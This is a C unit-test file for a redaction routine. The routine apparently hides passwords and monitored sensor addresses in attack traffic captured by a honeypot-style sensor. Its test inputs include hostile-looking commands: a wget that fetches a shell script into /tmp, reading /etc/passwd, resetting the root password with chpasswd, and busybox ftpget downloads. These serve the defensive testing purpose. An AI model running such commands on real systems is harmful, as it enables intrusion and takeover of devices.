/* Passwords and monitored addresses are taken out of what sources sent, and nothing near them is. */
#include "ask/conceal.h"
#include "model/heard.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

struct example {
    const char *text, *expected; /* NULL: it stays */
};

static void check_with(const struct conceal_options *options, const struct example *examples,
                       size_t count)
{
    for (size_t i = 0; i < count; i++) {
        char *concealed = conceal(examples[i].text, options);
        assert_non_null(concealed);
        assert_string_equal(concealed,
                            examples[i].expected == NULL ? examples[i].text : examples[i].expected);
        free(concealed);
    }
}

#define CHECK(options, examples)                                                                   \
    check_with(options, examples, sizeof(examples) / sizeof *(examples))

static const struct conceal_options plain = {.japanese = false};

static void values_of_forms_are_hidden(void **state)
{
    static const struct example examples[] = {
        {"user=admin&password=Zx7-9q&go=1", "user=admin&password=(hidden, 6)&go=1"},
        {"passwd=a", "passwd=(hidden, 1)"},
        {"PassWord=a", "PassWord=(hidden, 1)"},
        {"pwd=a&psd=bb&loginpas=ccc", "pwd=(hidden, 1)&psd=(hidden, 2)&loginpas=(hidden, 3)"},
        {"action=login&loginUser=a&loginPwd=abc HTTP/1.1",
         "action=login&loginUser=a&loginPwd=(hidden, 3) HTTP/1.1"},
        {"new_password1=a+b&x=1", "new_password1=(hidden, 3)&x=1"},
        {"user[pass]=abc&x", "user[pass]=(hidden, 3)&x"},
        {"?auth=YWRtaW46MTEK HTTP", "?auth=(hidden, 12) HTTP"},
        {"password=a;b,c'd\"e&x=1", "password=(hidden, 9)&x=1"},
        {"psk=\"a b\" x", "psk=\"(hidden, 3)\" x"},
        {"password=&x=1", NULL},
        {"a=1&wifi_pw=xyz", "a=1&wifi_pw=(hidden, 3)"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void escapes_hide_nothing_from_us(void **state)
{
    static const struct example examples[] = {
        {"password=a%26b&x=1", "password=(hidden, 3)&x=1"},
        {"p%61ssword=abc", "p%61ssword=(hidden, 3)"},
        {"u=http%3A%2F%2Fh%2F%3Fpassword%3Dabc%26x%3D1",
         "u=http%3A%2F%2Fh%2F%3Fpassword%3D(hidden, 3)%26x%3D1"},
        {"x=a%3Apassword%253Dabc", "x=a%3Apassword%253D(hidden, 3)"},
        {"u=ftp%3A%2F%2Froot%3Aabc%40h%2F", "u=ftp%3A%2F%2Froot%3A(hidden, 3)%40h%2F"},
        {"\\x70assword=abc\\r\\nx", "\\x70assword=(hidden, 3)\\r\\nx"},
        {"password=%", "password=(hidden, 1)"},
        {"password=%4", "password=(hidden, 2)"},
        {"password=\\xe5\\xff\\x00z", "password=(hidden, 4)"},
        {"ftpget${IFS}-u${IFS}a${IFS}-p${IFS}bcd${IFS}h",
         "ftpget${IFS}-u${IFS}a${IFS}-p${IFS}(hidden, 3)${IFS}h"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void values_of_json_and_xml_are_hidden(void **state)
{
    static const struct example examples[] = {
        {"{\"user\":\"a\",\"password\":\"b\\\"c\"}",
         "{\"user\":\"a\",\"password\":\"(hidden, 4)\"}"},
        {"{\"password\" : \"b\",\"x\":1}", "{\"password\" : \"(hidden, 1)\",\"x\":1}"},
        {"{\"passwd\":\\r\\n \"b\"}", "{\"passwd\":\\r\\n \"(hidden, 1)\"}"},
        {"{\"pwd\":1234,\"x\":1}", "{\"pwd\":(hidden, 4),\"x\":1}"},
        {"{\"password\":[\"ab\",\"c\"]}", "{\"password\":(hidden, 9)]}"},
        {"{\\\"password\\\":\\\"abc\\\",\\\"x\\\":1}",
         "{\\\"password\\\":\\\"(hidden, 3)\\\",\\\"x\\\":1}"},
        {"{\"password\":\"cut", "{\"password\":\"(hidden, 3)"},
        {"<u>a</u><Password>abc</Password>", "<u>a</u><Password>(hidden, 3)</Password>"},
        {"<ns:NewPassword type=\"s\">abc</", "<ns:NewPassword type=\"s\">(hidden, 3)</"},
        {"<input name=\"password\" value=\"abc\">",
         "<input name=\"password\" value=\"(hidden, 3)\">"},
        {"form-data; name=\"password\"\\r\\n\\r\\nabc\\r\\n--x",
         "form-data; name=\"password\"\\r\\n\\r\\n(hidden, 3)\\r\\n--x"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void headers_and_lines_are_hidden(void **state)
{
    static const struct example examples[] = {
        {"Host: a\\r\\nAuthorization: Basic YTpi\\r\\nX: y",
         "Host: a\\r\\nAuthorization: Basic (hidden, 4)\\r\\nX: y"},
        {"proxy-authorization:Digest username=\"a\", response=\"b\"\\r\\n",
         "proxy-authorization:Digest (hidden, 26)\\r\\n"},
        {"Authorization: secret-token", "Authorization: (hidden, 12)"},
        {"curl -H \"Authorization: Basic YTpi\" http://h",
         "curl -H \"Authorization: Basic (hidden, 4)\" http://h"},
        {"{\"Authorization\":\"Basic YTpi\"}", "{\"Authorization\":\"Basic (hidden, 4)\"}"},
        {"Authorization: Basic\\r\\n YTpi\\r\\nX", "Authorization: (hidden, 12)\\r\\nX"},
        {"USER a\\r\\nPASS b c\\r\\nLIST", "USER a\\r\\nPASS (hidden, 3)\\r\\nLIST"},
        {"pass b", "pass (hidden, 1)"},
        {"PASS a\nPASS b", "PASS (hidden, 1)\nPASS (hidden, 1)"},
        {"printf 'USER a\\nPASS b\\n' | nc h 21",
         "printf 'USER a\\nPASS (hidden, 1)\\n' | nc h 21"},
        {"a1 LOGIN user abc\\r\\n", "a1 LOGIN user (hidden, 3)\\r\\n"},
        {"a1 login {4}\\r\\nuser {3}\\r\\nabc\\r\\n", "a1 login {4}(hidden, 17)"},
        {"AUTH PLAIN AGEAYg==\\r\\nx", "AUTH PLAIN (hidden, 8)\\r\\n(hidden, 1)"},
        {"EHLO x\\r\\nAUTH LOGIN\\r\\nYQ==\\r\\nYg==\\r\\nMAIL",
         "EHLO x\\r\\nAUTH LOGIN\\r\\n(hidden, 4)\\r\\n(hidden, 4)\\r\\nMAIL"},
        {"*2\\r\\n$4\\r\\nAUTH\\r\\n$3\\r\\nabc\\r\\n",
         "*2\\r\\n$4\\r\\nAUTH\\r\\n(hidden, 2)\\r\\n(hidden, 3)\\r\\n"},
        {"AUTH abc", "AUTH (hidden, 3)"},
        {"enable password 7 0822455D", "enable password (hidden, 10)"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void passwords_of_urls_are_hidden(void **state)
{
    static const struct example examples[] = {
        {"wget http://user:p@ss@192.0.2.1/x", "wget http://user:(hidden, 4)@192.0.2.1/x"},
        {"ftp://:abc@h", "ftp://:(hidden, 3)@h"},
        {"http://user@h/ http://h:80/@x http://[2001:db8::1]/", NULL},
        {"http://u:a:b@h http://v:c@h", "http://u:(hidden, 3)@h http://v:(hidden, 1)@h"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void options_of_programs_are_hidden(void **state)
{
    static const struct example examples[] = {
        {"ftpget -v -u anonymous -p abc -P 21 192.0.2.1 x x",
         "ftpget -v -u anonymous -p (hidden, 3) -P 21 192.0.2.1 x x"},
        {"/bin/busybox ftpget -pabc h x", "/bin/busybox ftpget -p(hidden, 3) h x"},
        {"ftpget -vp 'a b' h", "ftpget -vp '(hidden, 3)' h"},
        {"wget --password=abc --user=a http://h", "wget --password=(hidden, 3) --user=a http://h"},
        {"wget --http-password abc http://h", "wget --http-password (hidden, 3) http://h"},
        {"GET /?c=wget+--password=abc+http://h HTTP",
         "GET /?c=wget+--password=(hidden, 3)+http://h HTTP"},
        {"curl -u a:bc http://h", "curl -u a:(hidden, 2) http://h"},
        {"curl -sua:b+c -O http://h", "curl -sua:(hidden, 3) -O http://h"},
        {"curl --user \"a:b c\" x; curl --proxy-user=a:b",
         "curl --user \"a:(hidden, 3)\" x; curl --proxy-user=a:(hidden, 1)"},
        {"c=;curl+-u+a:b+http://h", "c=;curl+-u+a:(hidden, 1)+http://h"},
        {"sh -c \"ftpget -p ab\"", "sh -c \"ftpget -p (hidden, 2)\""},
        {"sshpass -p abc ssh root@h", "sshpass -p (hidden, 3) ssh root@h"},
        {"htpasswd -b f u abc", "htpasswd (hidden, 2) (hidden, 1) (hidden, 1) (hidden, 3)"},
        {"echo root:abc|chpasswd", "echo (hidden, 8)|chpasswd"},
        {"cd /; echo -e \"a;b\\nc|d\"|passwd root", "cd /; echo (hidden, 12)|passwd root"},
        {"(echo ab; echo ab) | /usr/bin/passwd", "((hidden, 16)) | /usr/bin/passwd"},
        {"echo \"root:x\" | sudo chpasswd", "echo (hidden, 9)| sudo chpasswd"},
        {"chpasswd <<EOF\\nroot:abc\\nEOF", "chpasswd <<(hidden, 16)"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void what_is_near_a_password_stays(void **state)
{
    static const struct example examples[] = {
        {"", NULL},
        {"GET /shell?cd+/tmp;wget+http://192.0.2.9/x.sh HTTP/1.1\\r\\n", NULL},
        {"cat /etc/passwd; pwd; ls -p", NULL},
        {"compass=1&bypass=2&passive=3&keyPath=4&topsdk=5", NULL},
        {"PASSIVE; PASV; AUTHOR; login root", NULL},
        {"curl -O http://h/x; tar -p x", NULL},
        {"mkdir -p /tmp/x; ftpget -u a h x x", NULL},
        {"echo a:b | grep passwd", NULL},
        {"echo a; passwd", NULL},
        {"echo x || passwd", NULL},
        {"username=a&user=b", NULL},
        {"定点 \xff\xfe\x80", NULL},
        {"root / (hidden, 8), accepted", NULL},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void passwords_are_shown_where_asked_for(void **state)
{
    static const struct conceal_options shown = {.show_passwords = true};
    static const struct example examples[] = {
        {"password=abc", NULL},
        {"PASS abc", NULL},
        {"password=abc\\r\\nHost: 192.0.2.1\\r\\n", "password=abc\\r\\nHost: (sensor)\\r\\n"},
    };
    (void)state;
    CHECK(&shown, examples);
}

static void a_length_counts_characters(void **state)
{
    static const struct conceal_options japanese = {.japanese = true};
    static const struct example examples[] = {
        {"password=定点ab", "password=（非表示、4文字）"},
        {"Host: 192.0.2.1", "Host: （センサー）"},
    };
    (void)state;
    CHECK(&japanese, examples);
    assert_int_equal(concealed_length("(hidden, 12)@h"), 12);
    assert_int_equal(concealed_length("（非表示、4文字）@h"), strlen("（非表示、4文字）"));
    assert_int_equal(concealed_length("(hidden, )x"), 11 - 1);
    assert_int_equal(concealed_length("(hidden"), 0);
    assert_int_equal(concealed_length("x(hidden, 1)"), 0);
}

/* 203.0.113.5, 203.0.113.200 and 2001:db8::5. */
static struct conceal_options monitored_options(struct ipv6 addresses[3])
{
    addresses[0] = ipv6_of_ipv4((struct ipv4){0xcb007105});
    addresses[1] = ipv6_of_ipv4((struct ipv4){0xcb0071c8});
    assert_true(ipv6_parse("2001:db8::5", 11, &addresses[2]));
    return (struct conceal_options){.monitored = addresses, .monitored_count = 3};
}

static void monitored_addresses_are_taken_out(void **state)
{
    static const struct example examples[] = {
        {"wget http://203.0.113.5/x", "wget http://(sensor)/x"},
        {"http%3A%2F%2F203%2E0%2E113%2E5%2F", "http%3A%2F%2F(sensor)%2F"},
        {"ping 203.0.113.200; ping 203.0.113.5", "ping (sensor); ping (sensor)"},
        {"ec2-203-0-113-5.example.net", "ec2-(sensor).example.net"},
        {"1.203.0.113.5", "1.(sensor)"},
        {"http://[2001:db8::5]:80/", "http://[(sensor)]:80/"},
        {"2001:DB8:0::5 ", "(sensor) "},
        {"203.0.113.55 203.0.113.6 1203.0.113.5 203.0.113", NULL},
        {"http://192.0.2.9/ 2001:db8::50", NULL},
    };
    struct ipv6 addresses[3];
    const struct conceal_options options = monitored_options(addresses);
    (void)state;
    CHECK(&options, examples);
}

static void an_address_is_known_in_any_spelling(void **state)
{
    static const struct example examples[] = {
        {"http://3405803781/x", "http://(sensor)/x"},
        {"http://0xcb007105/ 0xCB.0.0161.5", "http://(sensor)/ (sensor)"},
        {"http://0313.0.0161.05/", "http://(sensor)/"},
        {"http://031300070405/", "http://(sensor)/"},
        {"203.0.28933 203.28933", "(sensor) (sensor)"},
        {"ip=cb007105&a", "ip=(sensor)&a"},
        {"ip=057100cb 91291851", "ip=(sensor) (sensor)"},
        {"203.000.113.005 203000113005", "(sensor) (sensor)"},
        {"PORT 203,0,113,5,19,136", "PORT (sensor),19,136"},
        {"ip_203_0_113_5_x", "ip_(sensor)_x"},
        {"5.113.0.203.in-addr.arpa", "(sensor).in-addr.arpa"},
        {"5-113-0-203.example.net", "(sensor).example.net"},
        {"\\x015\\x03113\\x010\\x03203\\x07in-addr\\x04arpa\\x00",
         "\\x01(sensor)\\x07in-addr\\x04arpa\\x00"},
        {"\\x04\\x01\\x00P\\xcb\\x00q\\x05\\x00", "\\x04\\x01\\x00P(sensor)\\x00"},
        {"a\\x05q\\x00\\xcbz", "a(sensor)z"},
        {"%cb%00%71%05", "(sensor)"},
        {"::ffff:203.0.113.5 ::ffff:cb00:7105 64:ff9b::cb00:7105", "(sensor) (sensor) (sensor)"},
        {"[2002:cb00:7105::1]", "[(sensor)]"},
        {"2001:0db8:0000:0000:0000:0000:0000:0005", "(sensor)"},
        {"20010db8000000000000000000000005", "(sensor)"},
        {"5.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.8.b.d.0.1.0.0.2.ip6.arpa",
         "(sensor).ip6.arpa"},
        {" \\x01\\r\\xb8\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x05", "(sensor)"},
        {" \\x01\\r\\xb8\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x06z", NULL},
        {"2.0.3.0 28933 0xcb0071 cb0071055 xcb007105 3405803782 34058037810", NULL},
        {"5.113.0.203 5.113.0.203:80", NULL},
    };
    struct ipv6 addresses[3];
    const struct conceal_options options = monitored_options(addresses);
    (void)state;
    CHECK(&options, examples);
}

static void what_is_encoded_is_looked_at(void **state)
{
    static const struct example examples[] = {
        {"echo MjAzLjAuMTEzLjU=|base64 -d", "echo (sensor)=|base64 -d"},
        {"GET /MjAzLjAuMTEzLjU=", "GET /(sensor)="},
        {"x aHR0cDovLzIwMy4wLjExMy41L3g= y", "x aHR0cDovL(sensor)L3g= y"},
        {"cGFzc3dvcmQ9Wng3LTlx", "cGFzc3dvcmQ9(hidden, 8)"},
        {"Basic YWRtaW46Wng3LTlx x", "Basic (hidden, 16) x"},
        {"Basic authentication required", NULL},
        {"\\x5c\\x00\\x5c\\x002\\x000\\x003\\x00.\\x000\\x00.\\x001\\x001\\x003\\x00."
         "\\x005\\x00\\x5c\\x00",
         "\\x5c\\x00\\x5c(sensor)\\x5c\\x00"},
        {"\\x002\\x000\\x003\\x00.\\x000\\x00.\\x001\\x001\\x003\\x00.\\x005", "(sensor)"},
        {"/cgi-bin/luci/admin/services MjAzLjAuMTEzLjY=", NULL},
    };
    struct ipv6 addresses[3];
    const struct conceal_options options = monitored_options(addresses);
    (void)state;
    CHECK(&options, examples);
}

static void a_short_name_beside_a_user_is_a_password(void **state)
{
    static const struct example examples[] = {
        {"GET /?u=admin&p=Zx7-9q HTTP", "GET /?u=admin&p=(hidden, 6) HTTP"},
        {"GET /?p=Zx7-9q&user=a HTTP", "GET /?p=(hidden, 6)&user=a HTTP"},
        {"GET /?p=12&page=a HTTP", NULL},
        {"user=a GET /?p=12 HTTP", NULL},
        {"snmpwalk -v2c -c Zx7-9q 192.0.2.1", "snmpwalk -v2c -c (hidden, 6) 192.0.2.1"},
        {"community=Zx7-9q&pin=1234", "community=(hidden, 6)&pin=(hidden, 4)"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void passwords_of_binary_protocols_are_hidden(void **state)
{
    static const struct example examples[] = {
        {"0\\x26\\x02\\x01\\x01\\x04\\x06Zx7-9q\\xa0\\x19\\x02",
         "0\\x26\\x02\\x01\\x01\\x04\\x06(hidden, 6)\\xa0\\x19\\x02"},
        {"0\\x26\\x02\\x01\\x01\\x04\\x06Zx7", "0\\x26\\x02\\x01\\x01\\x04\\x06(hidden, 3)"},
        {"0\\x26\\x02\\x01\\x01\\x04\\x06public\\xa0\\x19", NULL},
        {"0\\x26\\x02\\x01\\x01\\x04\\x06Zx7-9q\\x02", NULL},
        {"0\\x1c\\x02\\x01\\x01`\\x17\\x02\\x01\\x03\\x04\\x04cn=a\\x80\\x06Zx7-9q",
         "0\\x1c\\x02\\x01\\x01`\\x17\\x02\\x01\\x03\\x04\\x04cn=a\\x80\\x06(hidden, 6)"},
        {"\\x10\\x1b\\x00\\x04MQTT\\x04\\xc2\\x00<\\x00\\x01c\\x00\\x02ab\\x00\\x06Zx7-9q",
         "\\x10\\x1b\\x00\\x04MQTT\\x04\\xc2\\x00<\\x00\\x01c\\x00\\x02ab\\x00\\x06(hidden, 6)"},
        {"\\x01\\x01a\\x06Zx7-9q", "\\x01\\x01a\\x06(hidden, 6)"},
        {"p\\x00\\x00\\x00\\x0bZx7-9q\\x00", "p\\x00\\x00\\x00\\x0b(hidden, 6)\\x00"},
        {"1023\\x00root\\x00Zx7-9q\\x00id\\x00", "1023\\x00root\\x00(hidden, 6)\\x00id\\x00"},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void an_address_in_a_host_line_is_the_sensors(void **state)
{
    static const struct example examples[] = {
        {"GET / HTTP/1.1\\r\\nHost: 198.51.100.1:8080\\r\\n",
         "GET / HTTP/1.1\\r\\nHost: (sensor):8080\\r\\n"},
        {"host:198.51.100.1", "host:(sensor)"},
        {"Host: \"198.51.100.1\"", "Host: \"(sensor)\""},
        {"Host: [2001:db8::77]:81\\r\\n", "Host: [(sensor)]:81\\r\\n"},
        {"curl -H 'Host: 198.51.100.1'", "curl -H 'Host: (sensor)'"},
        {"Host: example.net\\r\\nX-Host: 198.51.100.1", NULL},
        {"Host: 1.example.net", NULL},
        {"Host: 8080", NULL},
    };
    (void)state;
    CHECK(&plain, examples);
}

static void a_cut_text_shows_no_part_of_an_address(void **state)
{
    static const struct example examples[] = {
        {"GET http://203.0.113", "GET http://(sensor)"},
        {"GET http://203.0.113.20", "GET http://(sensor)"},
        {"GET http://198.51.100.2", NULL},
        {"Host: 198", "Host: (sensor)"},
        {"password=ab", "password=(hidden, 2)"},
        {"HTTP/1.1", NULL},
    };
    struct ipv6 addresses[3];
    struct conceal_options options = monitored_options(addresses);
    options.cut = true;
    (void)state;
    CHECK(&options, examples);
}

/* Texts that make a finder look far ahead, many times. */
static void long_texts_take_linear_time(void **state)
{
    static const char *const pieces[] = {"<password ",
                                         "\"password\":\"",
                                         "-u \\\"",
                                         "curl -u \"",
                                         "://",
                                         "a:b.c:",
                                         "AUTH LOGIN\n",
                                         "%25",
                                         "\\",
                                         "echo 'a|",
                                         "(echo a)|passwd ",
                                         "Authorization: a ",
                                         "'",
                                         "password=",
                                         "1.2.",
                                         "name=\"pass\"\r\n",
                                         "login a {",
                                         "PASS\n ",
                                         "1.",
                                         "p=",
                                         "0x",
                                         "a0",
                                         "YWRtaW46",
                                         "\\x00\\x04MQTT\\x04\\xff\\xff\\xff\\xff\\xff",
                                         "2\\x00"};
    enum { LENGTH = 1 << 19 };
    char *text = malloc(LENGTH + 64);
    (void)state;
    assert_non_null(text);
    for (size_t i = 0; i < sizeof pieces / sizeof pieces[0]; i++) {
        size_t used = 0;
        memcpy(text, "curl ", used = 5);
        for (size_t length = strlen(pieces[i]); used < LENGTH; used += length)
            memcpy(text + used, pieces[i], length);
        text[used] = '\0';
        char *concealed = conceal(text, &plain);
        assert_non_null(concealed);
        free(concealed);
    }
    free(text);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(values_of_forms_are_hidden),
        cmocka_unit_test(escapes_hide_nothing_from_us),
        cmocka_unit_test(values_of_json_and_xml_are_hidden),
        cmocka_unit_test(headers_and_lines_are_hidden),
        cmocka_unit_test(passwords_of_urls_are_hidden),
        cmocka_unit_test(options_of_programs_are_hidden),
        cmocka_unit_test(what_is_near_a_password_stays),
        cmocka_unit_test(passwords_are_shown_where_asked_for),
        cmocka_unit_test(a_length_counts_characters),
        cmocka_unit_test(monitored_addresses_are_taken_out),
        cmocka_unit_test(an_address_is_known_in_any_spelling),
        cmocka_unit_test(what_is_encoded_is_looked_at),
        cmocka_unit_test(a_short_name_beside_a_user_is_a_password),
        cmocka_unit_test(passwords_of_binary_protocols_are_hidden),
        cmocka_unit_test(an_address_in_a_host_line_is_the_sensors),
        cmocka_unit_test(a_cut_text_shows_no_part_of_an_address),
        cmocka_unit_test(long_texts_take_linear_time),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
